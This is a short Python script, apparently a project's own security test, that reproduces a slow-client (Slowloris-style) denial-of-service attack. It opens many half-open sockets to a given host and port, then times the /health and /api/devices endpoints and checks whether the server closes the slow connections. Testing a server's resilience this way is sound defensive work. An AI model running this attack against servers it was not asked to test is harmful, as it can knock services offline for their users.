#!/usr/bin/env python3
# The slow-client attack of issue 10, by hand (docs/security.md): python3 slow_clients.py HOST PORT N
# Opens N sockets to host:port (half silent, half a request head one line short), then asks /health.
import socket, sys, time, urllib.request
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
socks = []
t0 = time.time()
for i in range(n):
    s = socket.create_connection((host, port), timeout=30)
    if i % 2 == 0:
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    socks.append(s)
print(f"opened {len(socks)} slow sockets in {time.time()-t0:.1f}s", flush=True)
t1 = time.time()
r = urllib.request.urlopen(f"http://{host}:{port}/health", timeout=60)
print(f"/health -> {r.status} in {(time.time()-t1)*1000:.0f} ms", flush=True)
t2 = time.time()
r = urllib.request.urlopen(f"http://{host}:{port}/api/devices", timeout=60)
print(f"/api/devices -> {r.status} in {(time.time()-t2)*1000:.0f} ms", flush=True)
closed = 0
for s in socks[:100]:
    s.settimeout(0.01)
    try:
        if s.recv(1) == b"": closed += 1
    except socket.timeout: pass
    except OSError: closed += 1
print(f"of the 100 oldest slow sockets, {closed} were closed by the server", flush=True)
